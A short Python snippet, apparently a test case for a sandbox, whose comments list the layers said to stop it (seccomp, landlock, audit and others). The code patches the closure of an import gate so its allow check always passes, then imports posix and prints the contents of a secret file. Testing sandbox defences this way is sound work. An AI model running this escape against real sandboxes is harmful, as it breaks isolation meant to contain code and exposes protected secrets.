# Replaces the code of the gate.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
gate = __import__
for cell in getattr(gate, '__closure__', None) or ():
    if getattr(cell.cell_contents, '__name__', '') == 'is_allowed':
        allowed = cell.cell_contents
        name = allowed.__code__.co_freevars[0]
        allowed.__code__ = eval('(lambda %s: (lambda name: %s or True))(0)' % (name, name)).__code__
import posix
posix.write(1, posix.read(posix.open(SECRET, 0), 100))
